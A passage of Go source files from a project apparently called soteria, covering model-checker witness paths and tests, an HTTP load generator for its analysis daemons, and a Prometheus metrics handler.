		return c.counterexample(x.R, s)
	}
	return []int{s}, -1
}

// shortestPathTo finds a BFS path from s to any state in target.
func (c *checker) shortestPathTo(s int, target []bool) []int {
	if target[s] {
		return []int{s}
	}
	prev := make([]int, c.k.N)
	for i := range prev {
		prev[i] = -1
	}
	prev[s] = s
	queue := []int{s}
	for len(queue) > 0 {
		c.b.Tick("modelcheck")
		u := queue[0]
		queue = queue[1:]
		for _, v := range c.k.Succs[u] {
			if prev[v] != -1 {
				continue
			}
			prev[v] = u
			if target[v] {
				var rev []int
				for x := v; x != s; x = prev[x] {
					rev = append(rev, x)
				}
				rev = append(rev, s)
				for i, j := 0, len(rev)-1; i < j; i, j = i+1, j-1 {
					rev[i], rev[j] = rev[j], rev[i]
				}
				return rev
			}
			queue = append(queue, v)
		}
	}
	return []int{s}
}

// egWitness builds a lasso inside the EG set starting at s: a path
// leading to a cycle all of whose states satisfy the (negated)
// property.
func (c *checker) egWitness(a []bool, s int) ([]int, int) {
	set := c.eg(a)
	if !set[s] {
		return []int{s}, -1
	}
	var path []int
	pos := map[int]int{}
	cur := s
	for {
		c.b.Tick("modelcheck")
		if at, seen := pos[cur]; seen {
			return path, at
		}
		pos[cur] = len(path)
		path = append(path, cur)
		next := -1
		for _, t := range c.k.Succs[cur] {
			if set[t] {
				next = t
				break
			}
		}
		if next < 0 {
			return path, -1
		}
		cur = next
	}
}
