package modelcheck

import (
	"math/rand"
	"testing"

	"github.com/soteria-analysis/soteria/internal/ctl"
	"github.com/soteria-analysis/soteria/internal/kripke"
)

func TestWitnessEX(t *testing.T) {
	k := kripke.New(3)
	k.AddEdge(0, 1, "")
	k.AddEdge(0, 2, "")
	k.AddEdge(1, 1, "")
	k.AddEdge(2, 2, "")
	k.Labels[2]["p"] = true
	path, _, ok := Witness(k, ctl.MustParse(`EX "p"`).(ctl.EX), 0)
	if !ok || len(path) != 2 || path[1] != 2 {
		t.Errorf("path = %v ok=%t", path, ok)
	}
	if _, _, ok := Witness(k, ctl.MustParse(`EX "p"`), 1); ok {
		t.Error("EX p does not hold at 1")
	}
}

func TestWitnessEF(t *testing.T) {
	k := kripke.New(4)
	k.AddEdge(0, 1, "")
	k.AddEdge(1, 2, "")
	k.AddEdge(2, 3, "")
	k.AddEdge(3, 3, "")
	k.Labels[3]["goal"] = true
	path, _, ok := Witness(k, ctl.MustParse(`EF "goal"`), 0)
	if !ok || len(path) != 4 || path[3] != 3 {
		t.Errorf("path = %v", path)
	}
}

func TestWitnessEU(t *testing.T) {
	// 0(a) -> 1(a) -> 2(b); also 0 -> 3 (dead, no a/b).
	k := kripke.New(4)
	k.AddEdge(0, 1, "")
	k.AddEdge(0, 3, "")
	k.AddEdge(1, 2, "")
	k.AddEdge(2, 2, "")
	k.AddEdge(3, 3, "")
	k.Labels[0]["a"] = true
	k.Labels[1]["a"] = true
	k.Labels[2]["b"] = true
	path, _, ok := Witness(k, ctl.MustParse(`E["a" U "b"]`), 0)
	if !ok {
		t.Fatal("witness missing")
	}
	// Every non-final state satisfies a; final satisfies b.
	for i, s := range path {
		if i == len(path)-1 {
			if !k.HasProp(s, "b") {
				t.Errorf("final state %d lacks b", s)
			}
		} else if !k.HasProp(s, "a") {
			t.Errorf("intermediate state %d lacks a", s)
		}
	}
}

func TestWitnessEG(t *testing.T) {
	k := kripke.New(3)
	k.AddEdge(0, 1, "")
	k.AddEdge(1, 0, "")
	k.AddEdge(0, 2, "")
	k.AddEdge(2, 2, "")
	k.Labels[0]["p"] = true
	k.Labels[1]["p"] = true
	path, loop, ok := Witness(k, ctl.MustParse(`EG "p"`), 0)
	if !ok || loop < 0 {
		t.Fatalf("path=%v loop=%d ok=%t", path, loop, ok)
	}
	for _, s := range path {
		if !k.HasProp(s, "p") {
			t.Errorf("lasso state %d lacks p", s)
		}
	}
}

func TestWitnessUnsupportedShape(t *testing.T) {
	k := kripke.New(1)
	k.AddEdge(0, 0, "")
	if _, _, ok := Witness(k, ctl.MustParse(`AG "p"`), 0); ok {
		t.Error("AG is not existential")
	}
}

// Property: every EF witness on random structures is a real path
// ending in a satisfying state.
func TestWitnessEFRandom(t *testing.T) {
	rng := rand.New(rand.NewSource(5))
	for trial := 0; trial < 30; trial++ {
		k := randomStructure(rng, 2+rng.Intn(10))
		f := ctl.MustParse(`EF "p"`)
		r := Check(k, f)
		for s := 0; s < k.N; s++ {
			path, _, ok := Witness(k, f, s)
			if ok != r.Sat[s] {
				t.Fatalf("trial %d: witness ok=%t but Sat=%t at %d", trial, ok, r.Sat[s], s)
			}
			if !ok {
				continue
			}
			if !k.HasProp(path[len(path)-1], "p") {
				t.Fatalf("trial %d: witness ends in non-p state", trial)
			}
			for i := 0; i+1 < len(path); i++ {
				found := false
				for _, succ := range k.Succs[path[i]] {
					if succ == path[i+1] {
						found = true
					}
				}
				if !found {
					t.Fatalf("trial %d: witness step %d invalid", trial, i)
				}
			}
		}
	}
}
