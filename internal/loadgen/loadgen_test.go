package loadgen

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/soteria-analysis/soteria/internal/market"
)

// fakeDaemon answers /v1/analyze (cached on repeat keys, per-daemon)
// and /v1/cluster/status with a fixed queue depth.
type fakeDaemon struct {
	mu      sync.Mutex
	seen    map[string]bool
	hits    atomic.Int64
	total   atomic.Int64
	queue   int64
	fail    atomic.Bool
	statusN atomic.Int64
}

func (d *fakeDaemon) handler() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /v1/analyze", func(w http.ResponseWriter, r *http.Request) {
		d.total.Add(1)
		if d.fail.Load() {
			w.WriteHeader(http.StatusTooManyRequests)
			json.NewEncoder(w).Encode(map[string]string{"error": "backpressure"})
			return
		}
		var req struct {
			Name   string `json:"name"`
			Source string `json:"source"`
		}
		if err := json.NewDecoder(r.Body).Decode(&req); err != nil || req.Source == "" {
			w.WriteHeader(http.StatusBadRequest)
			return
		}
		d.mu.Lock()
		cached := d.seen[req.Source]
		d.seen[req.Source] = true
		d.mu.Unlock()
		if cached {
			d.hits.Add(1)
		}
		json.NewEncoder(w).Encode(map[string]any{"status": "done", "cached": cached})
	})
	mux.HandleFunc("GET /v1/cluster/status", func(w http.ResponseWriter, r *http.Request) {
		d.statusN.Add(1)
		json.NewEncoder(w).Encode(map[string]any{"queue_depth": d.queue, "inflight": 1})
	})
	return mux
}

func newFakeDaemon(queue int64) (*fakeDaemon, *httptest.Server) {
	d := &fakeDaemon{seen: make(map[string]bool), queue: queue}
	return d, httptest.NewServer(d.handler())
}

func TestMarketItemsCoverCorpus(t *testing.T) {
	items := MarketItems()
	if len(items) != len(market.All()) {
		t.Fatalf("MarketItems = %d, want %d", len(items), len(market.All()))
	}
	for _, it := range items {
		var req struct {
			Name   string `json:"name"`
			Source string `json:"source"`
		}
		if err := json.Unmarshal(it.Body, &req); err != nil {
			t.Fatalf("item %s body: %v", it.Key, err)
		}
		if req.Name == "" || req.Source == "" {
			t.Fatalf("item %s missing name or source", it.Key)
		}
	}
}

func TestSyntheticItemsHaveDistinctSources(t *testing.T) {
	items := SyntheticItems(130) // exceeds corpus to force wraparound
	seen := map[string]bool{}
	for _, it := range items {
		var req struct {
			Source string `json:"source"`
		}
		if err := json.Unmarshal(it.Body, &req); err != nil {
			t.Fatal(err)
		}
		if seen[req.Source] {
			t.Fatalf("duplicate synthetic source for %s", it.Key)
		}
		seen[req.Source] = true
	}
	if len(items) != 130 {
		t.Fatalf("len = %d, want 130", len(items))
	}
}

func TestClosedLoopRun(t *testing.T) {
	d, srv := newFakeDaemon(3)
	defer srv.Close()
	items := MarketItems()[:5]
	res, err := Run(context.Background(), Config{
		Targets:     []string{srv.URL},
		Items:       items,
		Concurrency: 4,
		Requests:    20, // 4 passes over 5 items: 15 repeats are cache hits
		QueueSample: 5 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	if res.Mode != "closed" || res.Concurrency != 4 {
		t.Fatalf("mode/concurrency = %s/%d", res.Mode, res.Concurrency)
	}
	if res.Requests != 20 || res.Errors != 0 {
		t.Fatalf("requests=%d errors=%d, want 20/0", res.Requests, res.Errors)
	}
	if got := d.total.Load(); got != 20 {
		t.Fatalf("daemon saw %d requests, want 20", got)
	}
	if res.CacheHits != 15 {
		t.Fatalf("cache hits = %d, want 15", res.CacheHits)
	}
	if res.CacheHit < 0.74 || res.CacheHit > 0.76 {
		t.Fatalf("cache hit rate = %v, want 0.75", res.CacheHit)
	}
	if res.P50MS <= 0 || res.P99MS < res.P50MS || res.MaxMS < res.P99MS {
		t.Fatalf("percentiles out of order: p50=%v p99=%v max=%v", res.P50MS, res.P99MS, res.MaxMS)
	}
	if res.ThroughputRPS <= 0 {
		t.Fatalf("throughput = %v", res.ThroughputRPS)
	}
}

func TestClosedLoopCountsErrors(t *testing.T) {
	d, srv := newFakeDaemon(0)
	defer srv.Close()
	d.fail.Store(true)
	res, err := Run(context.Background(), Config{
		Targets:     []string{srv.URL},
		Items:       MarketItems()[:3],
		Concurrency: 2,
		Requests:    6,
	})
	if err != nil {
		t.Fatal(err)
	}
	if res.Errors != 6 || res.Rejected != 6 {
		t.Fatalf("errors=%d rejected=%d, want 6/6", res.Errors, res.Rejected)
	}
	if res.FirstError == "" {
		t.Fatal("FirstError empty")
	}
}

func TestOpenLoopRun(t *testing.T) {
	_, srv := newFakeDaemon(1)
	defer srv.Close()
	res, err := Run(context.Background(), Config{
		Targets:  []string{srv.URL},
		Items:    MarketItems()[:3],
		Rate:     200,
		Duration: 150 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	if res.Mode != "open" || res.RateRPS != 200 {
		t.Fatalf("mode/rate = %s/%v", res.Mode, res.RateRPS)
	}
	if res.Requests == 0 {
		t.Fatal("open loop issued no requests")
	}
	if res.Errors != 0 {
		t.Fatalf("errors = %d (%s)", res.Errors, res.FirstError)
	}
}

func TestQueueDepthSampling(t *testing.T) {
	d, srv := newFakeDaemon(7)
	defer srv.Close()
	res, err := Run(context.Background(), Config{
		Targets:     []string{srv.URL},
		Items:       MarketItems()[:2],
		Concurrency: 1,
		Requests:    40,
		QueueSample: time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	qs, ok := res.QueueDepth[srv.URL]
	if !ok {
		t.Fatal("no queue stats for target")
	}
	if qs.Samples == 0 {
		t.Skip("run finished before the first queue sample (slow CI tick)")
	}
	if qs.Max != 7 || qs.Mean != 7 {
		t.Fatalf("queue stats = %+v, want max/mean 7", qs)
	}
	if qs.MaxInflight != 1 {
		t.Fatalf("max inflight = %d, want 1", qs.MaxInflight)
	}
	if d.statusN.Load() == 0 {
		t.Fatal("daemon status endpoint never polled")
	}
}

func TestRunRoundRobinsTargets(t *testing.T) {
	d1, srv1 := newFakeDaemon(0)
	defer srv1.Close()
	d2, srv2 := newFakeDaemon(0)
	defer srv2.Close()
	res, err := Run(context.Background(), Config{
		Targets:     []string{srv1.URL, srv2.URL},
		Items:       MarketItems()[:4],
		Concurrency: 2,
		Requests:    10,
	})
	if err != nil {
		t.Fatal(err)
	}
	if res.Errors != 0 {
		t.Fatalf("errors = %d (%s)", res.Errors, res.FirstError)
	}
	if d1.total.Load() != 5 || d2.total.Load() != 5 {
		t.Fatalf("split = %d/%d, want 5/5", d1.total.Load(), d2.total.Load())
	}
}

func TestRunValidatesConfig(t *testing.T) {
	if _, err := Run(context.Background(), Config{Items: MarketItems()}); err == nil {
		t.Fatal("no targets accepted")
	}
	if _, err := Run(context.Background(), Config{Targets: []string{"http://x"}}); err == nil {
		t.Fatal("no items accepted")
	}
}

func TestSeedShufflesDeterministically(t *testing.T) {
	items := MarketItems()
	// Two runs with the same seed must replay in the same order; verify
	// via the request sequence observed by a single-worker run.
	order := func(seed int64) []string {
		var mu sync.Mutex
		var got []string
		srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			var req struct {
				Name string `json:"name"`
			}
			json.NewDecoder(r.Body).Decode(&req)
			mu.Lock()
			got = append(got, req.Name)
			mu.Unlock()
			json.NewEncoder(w).Encode(map[string]any{"status": "done"})
		}))
		defer srv.Close()
		_, err := Run(context.Background(), Config{
			Targets: []string{srv.URL}, Items: items, Concurrency: 1, Requests: 10, Seed: seed,
		})
		if err != nil {
			t.Fatal(err)
		}
		return got
	}
	a, b := order(42), order(42)
	c := order(7)
	if len(a) != 10 || len(b) != 10 {
		t.Fatalf("lengths %d/%d", len(a), len(b))
	}
	same := true
	for i := range a {
		if a[i] != b[i] {
			same = false
		}
	}
	if !same {
		t.Fatal("same seed produced different orders")
	}
	diff := false
	for i := range a {
		if a[i] != c[i] {
			diff = true
		}
	}
	if !diff {
		t.Fatal("different seeds produced identical orders (suspicious)")
	}
}
