// Package loadgen is the fleet load generator behind cmd/soteria-load:
// it replays an analysis corpus against one or more soteriad nodes and
// measures what an operator would ask about a deployment — latency
// percentiles, throughput, cache-hit rate, per-node queue depth.
//
// Two arrival models are supported, because they answer different
// questions:
//
//   - closed loop: a fixed number of in-flight requesters, each
//     issuing its next request when the previous one completes.
//     Measures capacity — "what does the fleet sustain at concurrency
//     C?" — but hides queueing delay (a slow server slows the
//     arrivals).
//   - open loop: arrivals on a fixed schedule regardless of
//     completions, the model that exposes coordinated omission — "what
//     happens at R requests/second when clients do not politely wait?"
//
// Latency percentiles are exact (computed from every recorded sample,
// never bucketed), and queue depth is sampled from each node's
// /v1/cluster/status while the load runs.
package loadgen

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"math/rand"
	"net/http"
	"sort"
	"sync"
	"time"

	"github.com/soteria-analysis/soteria/internal/market"
)

// Item is one replayable request: a pre-encoded POST /v1/analyze body.
type Item struct {
	Key  string // label for error reporting
	Body []byte
}

// MarketItems renders the 65-app market corpus as load items, one
// single-app analysis per app.
func MarketItems() []Item {
	var items []Item
	for _, a := range market.All() {
		body, _ := json.Marshal(map[string]string{"name": a.ID, "source": a.Source})
		items = append(items, Item{Key: a.ID, Body: body})
	}
	return items
}

// SyntheticItems derives n variant apps from the market corpus by
// appending a distinct comment line to each source — every variant
// parses identically but hashes to a fresh analysis key, so synthetic
// load exercises the analyze path, not just the cache.
func SyntheticItems(n int) []Item {
	base := market.All()
	items := make([]Item, 0, n)
	for i := 0; i < n; i++ {
		a := base[i%len(base)]
		name := fmt.Sprintf("%s-v%d", a.ID, i)
		src := fmt.Sprintf("%s\n// synthetic variant %d\n", a.Source, i)
		body, _ := json.Marshal(map[string]string{"name": name, "source": src})
		items = append(items, Item{Key: name, Body: body})
	}
	return items
}

// Config configures one load run.
type Config struct {
	// Targets are the daemon base URLs; requests round-robin over them.
	Targets []string
	// Items is the replay corpus; requests cycle through it.
	Items []Item

	// Concurrency is the closed-loop requester count (ignored when
	// Rate > 0).
	Concurrency int
	// Requests is the closed-loop total request count.
	Requests int

	// Rate, when positive, switches to open-loop arrivals at this many
	// requests/second for Duration.
	Rate     float64
	Duration time.Duration

	// Timeout bounds one request (default 60s).
	Timeout time.Duration
	// HTTPClient overrides the transport (tests).
	HTTPClient *http.Client
	// QueueSample paces queue-depth sampling (default 250ms).
	QueueSample time.Duration
	// Seed shuffles the replay order deterministically (0 = input order).
	Seed int64
}

// QueueStats summarize one node's sampled queue depth during a run.
type QueueStats struct {
	Samples int     `json:"samples"`
	Max     int64   `json:"max"`
	Mean    float64 `json:"mean"`
	// MaxInflight is the peak of the node's inflight-jobs gauge.
	MaxInflight int64 `json:"max_inflight"`
}

// Result is one load run's measurements.
type Result struct {
	Mode        string  `json:"mode"` // "closed" or "open"
	Concurrency int     `json:"concurrency,omitempty"`
	RateRPS     float64 `json:"rate_rps,omitempty"`

	Requests  int     `json:"requests"`
	Errors    int     `json:"errors"`
	Rejected  int     `json:"rejected"` // 429 backpressure (subset of Errors)
	CacheHits int     `json:"cache_hits"`
	CacheHit  float64 `json:"cache_hit_rate"`

	DurationSec   float64 `json:"duration_sec"`
	ThroughputRPS float64 `json:"throughput_rps"`

	P50MS float64 `json:"p50_ms"`
	P90MS float64 `json:"p90_ms"`
	P99MS float64 `json:"p99_ms"`
	MaxMS float64 `json:"max_ms"`

	// QueueDepth maps each target to its sampled queue statistics.
	QueueDepth map[string]QueueStats `json:"queue_depth,omitempty"`

	// FirstError surfaces one representative failure for diagnostics.
	FirstError string `json:"first_error,omitempty"`
}

// collector accumulates per-request outcomes.
type collector struct {
	mu        sync.Mutex
	latencies []time.Duration
	errors    int
	rejected  int
	cacheHits int
	firstErr  string
}

func (c *collector) record(d time.Duration, cached bool, status int, err error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if err != nil || status >= 400 {
		c.errors++
		if status == http.StatusTooManyRequests {
			c.rejected++
		}
		if c.firstErr == "" {
			if err != nil {
				c.firstErr = err.Error()
			} else {
				c.firstErr = fmt.Sprintf("http %d", status)
			}
		}
		return
	}
	c.latencies = append(c.latencies, d)
	if cached {
		c.cacheHits++
	}
}

// Run executes one load run. It returns an error only for unusable
// configuration; request failures are counted in the Result.
func Run(ctx context.Context, cfg Config) (*Result, error) {
	if len(cfg.Targets) == 0 {
		return nil, fmt.Errorf("loadgen: no targets")
	}
	if len(cfg.Items) == 0 {
		return nil, fmt.Errorf("loadgen: no items")
	}
	if cfg.Timeout <= 0 {
		cfg.Timeout = 60 * time.Second
	}
	if cfg.QueueSample <= 0 {
		cfg.QueueSample = 250 * time.Millisecond
	}
	hc := cfg.HTTPClient
	if hc == nil {
		hc = &http.Client{}
	}
	items := cfg.Items
	if cfg.Seed != 0 {
		items = append([]Item{}, cfg.Items...)
		rand.New(rand.NewSource(cfg.Seed)).Shuffle(len(items), func(i, j int) {
			items[i], items[j] = items[j], items[i]
		})
	}

	col := &collector{}
	res := &Result{}

	// Queue-depth sampler runs for the duration of the load.
	sctx, scancel := context.WithCancel(ctx)
	var samplerWG sync.WaitGroup
	queue := sampleQueues(sctx, &samplerWG, hc, cfg.Targets, cfg.QueueSample)

	start := time.Now()
	var issued int
	if cfg.Rate > 0 {
		res.Mode = "open"
		res.RateRPS = cfg.Rate
		issued = runOpen(ctx, hc, cfg, items, col)
	} else {
		res.Mode = "closed"
		if cfg.Concurrency <= 0 {
			cfg.Concurrency = 1
		}
		if cfg.Requests <= 0 {
			cfg.Requests = len(items)
		}
		res.Concurrency = cfg.Concurrency
		issued = runClosed(ctx, hc, cfg, items, col)
	}
	elapsed := time.Since(start)
	scancel()
	samplerWG.Wait()

	col.mu.Lock()
	defer col.mu.Unlock()
	res.Requests = issued
	res.Errors = col.errors
	res.Rejected = col.rejected
	res.CacheHits = col.cacheHits
	if ok := len(col.latencies); ok > 0 {
		res.CacheHit = float64(col.cacheHits) / float64(ok)
	}
	res.DurationSec = elapsed.Seconds()
	if elapsed > 0 {
		res.ThroughputRPS = float64(len(col.latencies)) / elapsed.Seconds()
	}
	res.P50MS = percentileMS(col.latencies, 50)
	res.P90MS = percentileMS(col.latencies, 90)
	res.P99MS = percentileMS(col.latencies, 99)
	res.MaxMS = percentileMS(col.latencies, 100)
	res.QueueDepth = queue()
	res.FirstError = col.firstErr
	return res, nil
}

// runClosed issues cfg.Requests requests from cfg.Concurrency
// requesters, each starting its next request when the last finished.
func runClosed(ctx context.Context, hc *http.Client, cfg Config, items []Item, col *collector) int {
	var next int64
	var mu sync.Mutex
	take := func() (int, bool) {
		mu.Lock()
		defer mu.Unlock()
		if int(next) >= cfg.Requests || ctx.Err() != nil {
			return 0, false
		}
		n := int(next)
		next++
		return n, true
	}
	var wg sync.WaitGroup
	for w := 0; w < cfg.Concurrency; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				n, ok := take()
				if !ok {
					return
				}
				doRequest(ctx, hc, cfg, n, items, col)
			}
		}()
	}
	wg.Wait()
	mu.Lock()
	defer mu.Unlock()
	return int(next)
}

// runOpen issues arrivals at cfg.Rate for cfg.Duration, one goroutine
// per arrival — completions never pace arrivals.
func runOpen(ctx context.Context, hc *http.Client, cfg Config, items []Item, col *collector) int {
	interval := time.Duration(float64(time.Second) / cfg.Rate)
	if interval <= 0 {
		interval = time.Nanosecond
	}
	deadline := time.Now().Add(cfg.Duration)
	tick := time.NewTicker(interval)
	defer tick.Stop()
	var wg sync.WaitGroup
	n := 0
	for time.Now().Before(deadline) && ctx.Err() == nil {
		select {
		case <-tick.C:
			wg.Add(1)
			go func(n int) {
				defer wg.Done()
				doRequest(ctx, hc, cfg, n, items, col)
			}(n)
			n++
		case <-ctx.Done():
		}
	}
	wg.Wait()
	return n
}

// doRequest issues one analyze request round-robin over the targets.
func doRequest(ctx context.Context, hc *http.Client, cfg Config, n int, items []Item, col *collector) {
	item := items[n%len(items)]
	target := cfg.Targets[n%len(cfg.Targets)]
	rctx, cancel := context.WithTimeout(ctx, cfg.Timeout)
	defer cancel()
	req, err := http.NewRequestWithContext(rctx, http.MethodPost, target+"/v1/analyze", bytes.NewReader(item.Body))
	if err != nil {
		col.record(0, false, 0, err)
		return
	}
	req.Header.Set("Content-Type", "application/json")
	start := time.Now()
	resp, err := hc.Do(req)
	lat := time.Since(start)
	if err != nil {
		col.record(lat, false, 0, fmt.Errorf("%s: %w", item.Key, err))
		return
	}
	defer resp.Body.Close()
	var body struct {
		Cached bool   `json:"cached"`
		Error  string `json:"error"`
	}
	_ = json.NewDecoder(resp.Body).Decode(&body)
	col.record(lat, body.Cached, resp.StatusCode, nil)
}

// sampleQueues polls every target's /v1/cluster/status until ctx ends;
// the returned closure yields the aggregated stats.
func sampleQueues(ctx context.Context, wg *sync.WaitGroup, hc *http.Client, targets []string, every time.Duration) func() map[string]QueueStats {
	type acc struct {
		samples              int
		sum, max, maxInflight int64
	}
	accs := make([]acc, len(targets))
	var mu sync.Mutex
	for i, t := range targets {
		wg.Add(1)
		go func(i int, t string) {
			defer wg.Done()
			tick := time.NewTicker(every)
			defer tick.Stop()
			for {
				select {
				case <-ctx.Done():
					return
				case <-tick.C:
				}
				rctx, cancel := context.WithTimeout(ctx, every)
				req, err := http.NewRequestWithContext(rctx, http.MethodGet, t+"/v1/cluster/status", nil)
				if err != nil {
					cancel()
					continue
				}
				resp, err := hc.Do(req)
				cancel()
				if err != nil {
					continue
				}
				var st struct {
					QueueDepth int64 `json:"queue_depth"`
					Inflight   int64 `json:"inflight"`
				}
				err = json.NewDecoder(resp.Body).Decode(&st)
				resp.Body.Close()
				if err != nil {
					continue
				}
				mu.Lock()
				a := &accs[i]
				a.samples++
				a.sum += st.QueueDepth
				if st.QueueDepth > a.max {
					a.max = st.QueueDepth
				}
				if st.Inflight > a.maxInflight {
					a.maxInflight = st.Inflight
				}
				mu.Unlock()
			}
		}(i, t)
	}
	return func() map[string]QueueStats {
		mu.Lock()
		defer mu.Unlock()
		out := make(map[string]QueueStats, len(targets))
		for i, t := range targets {
			a := accs[i]
			qs := QueueStats{Samples: a.samples, Max: a.max, MaxInflight: a.maxInflight}
			if a.samples > 0 {
				qs.Mean = float64(a.sum) / float64(a.samples)
			}
			out[t] = qs
		}
		return out
	}
}

// percentileMS computes the exact p-th percentile (nearest-rank) of
// the samples, in milliseconds. p=100 is the maximum; no samples is 0.
func percentileMS(lat []time.Duration, p float64) float64 {
	if len(lat) == 0 {
		return 0
	}
	sorted := append([]time.Duration{}, lat...)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i] < sorted[j] })
	rank := int(p/100*float64(len(sorted))+0.5) - 1
	if rank < 0 {
		rank = 0
	}
	if rank >= len(sorted) {
		rank = len(sorted) - 1
	}
	return float64(sorted[rank]) / float64(time.Millisecond)
}
