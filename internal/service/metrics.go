package service

import (
	"fmt"
	"net/http"
	"strings"

	"github.com/soteria-analysis/soteria/internal/obs"
)

// handleMetrics serves GET /metrics in the Prometheus text exposition
// format (hand-rendered; the serving tier is standard-library only).
// Gauges come from the guard instrumentation; counters from the job
// table, the persistent store, the in-process analysis cache, and the
// engine/BDD-kernel and memo totals aggregated from job span trees;
// histograms are the obs latency families (job end-to-end, queue
// wait, per-phase, per-engine). The exposition-format test validates
// the output with obs.ValidateExposition, and the smoke script
// re-validates it against a live daemon.
func (s *Server) handleMetrics(w http.ResponseWriter, r *http.Request) {
	var b strings.Builder
	gauge := func(name, help string, v int64) {
		fmt.Fprintf(&b, "# HELP %s %s\n# TYPE %s gauge\n%s %d\n", name, help, name, name, v)
	}
	counter := func(name, help string, v int64) {
		fmt.Fprintf(&b, "# HELP %s %s\n# TYPE %s counter\n%s %d\n", name, help, name, name, v)
	}

	gauge("soteriad_queue_depth", "Jobs queued and not yet running.", s.queueDepth.Value())
	gauge("soteriad_inflight_jobs", "Jobs currently being analyzed.", s.inflight.Value())
	draining := int64(0)
	if s.Draining() {
		draining = 1
	}
	gauge("soteriad_draining", "1 while the server drains for shutdown.", draining)

	counter("soteriad_jobs_done_total", "Jobs completed successfully (including cache-served).", s.jobsDone.Load())
	counter("soteriad_jobs_failed_total", "Jobs that ended in a hard input error.", s.jobsFailed.Load())
	counter("soteriad_jobs_rejected_total", "Submissions rejected by backpressure or drain.", s.jobsRejected.Load())
	counter("soteriad_slow_jobs_total", "Jobs exceeding the slow-job threshold (span trees dumped to the log).", s.slowJobs.Load())

	counter("soteriad_idempotency_hits_total", "Resubmissions answered by an idempotency key's first job.", s.idemHits.Load())
	counter("soteriad_jobs_replayed_total", "Jobs rebuilt from the journal at startup.", s.jobsReplayed.Load())
	counter("soteriad_jobs_reenqueued_total", "Replayed jobs re-enqueued because they never reached a terminal state.", s.jobsReenqueued.Load())
	counter("soteriad_journal_dup_keys_total", "Duplicate idempotency keys collapsed during journal replay.", s.journalDupKeys.Load())
	if s.journal != nil {
		counter("soteriad_journal_appends_total", "Entries appended to the job journal.", s.journal.stats.appends.Load())
		counter("soteriad_journal_syncs_total", "fsyncs issued by the job journal (group commit batches appends).", s.journal.stats.syncs.Load())
		gauge("soteriad_journal_truncated_bytes", "Torn-tail bytes truncated when the journal was opened.", int64(s.journal.replay.TruncatedBytes))
	}

	cs := s.cache.Stats()
	counter("soteriad_cache_hits_total", "Analysis cache hits (in-process + store).", cs.Hits)
	counter("soteriad_cache_misses_total", "Analysis cache misses (in-process + store).", cs.Misses)
	counter("soteriad_cache_evictions_total", "Analysis cache evictions (in-process + store front).", cs.Evictions)
	gauge("soteriad_cache_analyses", "Analyses held in process.", int64(cs.Analyses))
	gauge("soteriad_cache_ir_entries", "Parsed IR entries held in process.", int64(cs.IREntries))

	ss := s.cfg.Store.Stats()
	counter("soteriad_store_hits_total", "Persistent store hits (memory front + disk).", ss.Hits)
	counter("soteriad_store_disk_hits_total", "Persistent store hits served from disk.", ss.DiskHits)
	counter("soteriad_store_misses_total", "Persistent store misses.", ss.Misses)
	counter("soteriad_store_puts_total", "Records written to the persistent store.", ss.Puts)
	counter("soteriad_store_evictions_total", "Records evicted from the store's memory front.", ss.Evictions)
	counter("soteriad_store_corrupt_total", "Corrupt records quarantined on read.", ss.Corrupt)

	// BDD kernel and explicit-engine memo totals, aggregated from the
	// span trees of completed jobs.
	counter("soteriad_bdd_nodes_total", "BDD nodes allocated by symbolic-engine checks (budget-charged).", s.bddNodes.Load())
	counter("soteriad_bdd_ite_lookups_total", "BDD kernel ITE computed-table probes.", s.bddITELookups.Load())
	counter("soteriad_bdd_ite_hits_total", "BDD kernel ITE computed-table hits.", s.bddITEHits.Load())
	counter("soteriad_bdd_op_lookups_total", "BDD kernel quantify/rename computed-table probes.", s.bddOpLookups.Load())
	counter("soteriad_bdd_op_hits_total", "BDD kernel quantify/rename computed-table hits.", s.bddOpHits.Load())
	counter("soteriad_memo_lookups_total", "Explicit-engine cross-formula memo probes.", s.memoLookups.Load())
	counter("soteriad_memo_hits_total", "Explicit-engine cross-formula memo hits.", s.memoHits.Load())
	counter("soteriad_memo_subformulas_total", "Distinct subformulas memoized across property sweeps.", s.memoSubformulas.Load())

	if cl := s.cfg.Cluster; cl != nil {
		st := cl.Status()
		gauge("soteriad_cluster_members", "Fleet members in this node's ring.", int64(st.Members))
		counter("soteriad_cluster_forwards_total", "Requests (or batch groups) forwarded to their ring owner.", s.routeForwards.Load())
		counter("soteriad_cluster_fallbacks_total", "Owner-unreachable groups served locally instead.", s.routeFallbacks.Load())
		var gets, hits, puts, putErrs int64
		for _, p := range st.Peers {
			gets += p.StoreGets
			hits += p.StoreHits
			puts += p.StorePuts
			putErrs += p.StorePutErrors
		}
		counter("soteriad_cluster_store_gets_total", "Result reads routed to owning peers.", gets)
		counter("soteriad_cluster_store_hits_total", "Peer-routed result reads that hit.", hits)
		counter("soteriad_cluster_store_puts_total", "Result writes routed to owning peers.", puts)
		counter("soteriad_cluster_store_put_errors_total", "Peer-routed writes that fell back to the local store.", putErrs)
		obs.WriteHistogramProm(&b, "soteriad_route_seconds",
			"Forwarded-request latency per peer (analysis included).",
			cl.RouteSeries()...)
	}

	obs.WriteHistogramProm(&b, "soteriad_job_seconds",
		"End-to-end job latency (queue wait excluded for cache-served jobs).",
		obs.Series{H: s.jobLatency})
	obs.WriteHistogramProm(&b, "soteriad_queue_wait_seconds",
		"Time jobs spent queued before a worker picked them up.",
		obs.Series{H: s.queueWait})
	phases := make([]obs.Series, 0, len(phaseNames))
	for _, p := range phaseNames {
		phases = append(phases, obs.Series{Label: "phase", Value: p, H: s.phaseHist[p]})
	}
	obs.WriteHistogramProm(&b, "soteriad_phase_seconds",
		"Per-phase analysis durations (ir, statemodel, kripke, check.general, check).",
		phases...)
	engines := make([]obs.Series, 0, len(engineNames))
	for _, e := range engineNames {
		engines = append(engines, obs.Series{Label: "engine", Value: e, H: s.engineHist[e]})
	}
	obs.WriteHistogramProm(&b, "soteriad_engine_check_seconds",
		"Per-engine property-check durations, including fallback attempts.",
